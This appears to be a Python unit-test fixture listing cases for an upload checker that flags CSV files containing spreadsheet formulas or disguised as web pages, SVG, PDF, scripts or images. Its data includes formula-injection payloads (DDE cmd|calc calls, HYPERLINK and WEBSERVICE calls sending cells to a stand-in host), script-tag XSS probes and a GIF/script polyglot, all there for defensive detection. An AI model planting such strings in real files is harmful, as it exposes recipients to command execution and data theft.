"""CSV files that are something else, or hold what a spreadsheet would work out."""

from functools import partial

from tests.unit.uploads.files import office, picture

from . import Case


def cell(text: str, separator: str = ",") -> bytes:
    return f"week{separator}falls\n1{separator}{text}\n".encode()


FORMULAS = [
    *(
        Case(f"the cell {text}", "a.csv", partial(cell, text), "formula")
        for text in (
            "=cmd|'/c calc'!A0",
            "\"=cmd|'/c calc'!A0\"",
            "+cmd|' /C calc'!A0",
            "-cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C'!A0",
            "=1+1",
            "=SUM(A1:A9)",
            '=HYPERLINK("https://x.test/?"&A1)',
            '"=WEBSERVICE(""https://x.test"")"',
            "=A1",
            "={1}",
            "= 1",
            " =1+1",
            "\xa0=1+1",
            "'=1+1",
            "+SUM(A1)",
            "-EXEC(x)",
            "@SUM(A1)",
            "＝1+1",
            "＋SUM(A1)",
            "=-1",
            '="x"',
            "\ufeff=1+1",
            "=[1]a!A1",
            "=@A1",
            "=$A$1",
            "=#REF!",
        )
    ),
    Case("after a semicolon", "a.csv", partial(cell, "=1+1", ";"), "formula"),
    Case("after a tab", "a.csv", partial(cell, "=1+1", "\t"), "formula"),
    Case("after a separator of its own", "a.csv", lambda: b"sep=^\nweek^falls\n1^=1+1\n", "formula"),
    Case("at the very beginning", "a.csv", lambda: b"=1+1\n", "formula"),
    Case("after a lone carriage return", "a.csv", lambda: b"a,b\r=1+1\r", "formula"),
]

OTHERS = [
    Case("nothing", "a.csv", lambda: b"", "empty"),
    Case("a null", "a.csv", lambda: b"a,b\x00c", "csv"),
    Case("UTF-16", "a.csv", lambda: "a,b\n1,2".encode("utf-16"), "csv"),
    Case("UTF-16 without a mark", "a.csv", lambda: "a,b\n1,2".encode("utf-16-le"), "csv"),
    Case("UTF-16 the other way round", "a.csv", lambda: "a,b\n1,2".encode("utf-16-be"), "csv"),
    Case("UTF-32", "a.csv", lambda: "a,b".encode("utf-32"), "csv"),
    Case("random bytes", "a.csv", lambda: bytes(range(256)) * 4, "csv"),
    Case("bytes no encoding has", "a.csv", lambda: b"a,\x81\x8d\x8f", "csv"),
    Case("words for a terminal", "a.csv", lambda: b"a,b\x1b[2J", "csv"),
    Case("a web page", "a.csv", lambda: b"<html><script>alert(1)</script></html>", "csv"),
    Case("a web page after blanks", "a.csv", lambda: b" \n\t <script>alert(1)</script>", "csv"),
    Case("SVG", "a.csv", lambda: b"<?xml version='1.0'?><svg onload='x'/>", "csv"),
    Case("a comment of a page", "a.csv", lambda: b"<!-- x --><script>x</script>", "csv"),
    Case("a PDF", "a.csv", lambda: b"%PDF-1.7 a,b", "csv"),
    Case("RTF", "a.csv", lambda: b"{\\rtf1 a}", "csv"),
    Case("a shell script", "a.csv", lambda: b"#!/bin/sh\nrm,1", "csv"),
    Case("a SYLK file", "a.csv", lambda: b'ID;PWXL;N;E\nC;X1;Y1;K"x"', "csv"),
    Case("a saved page", "a.csv", lambda: b"MIME-Version: 1.0\nContent-Type: text/html", "csv"),
    Case("a picture", "a.csv", lambda: picture("PNG"), "csv"),
    Case("a document", "a.csv", office, "csv"),
    Case("a GIF that is a script", "a.csv", lambda: b"GIF89a=1;alert(1)", "csv"),
]

CASES = FORMULAS + OTHERS
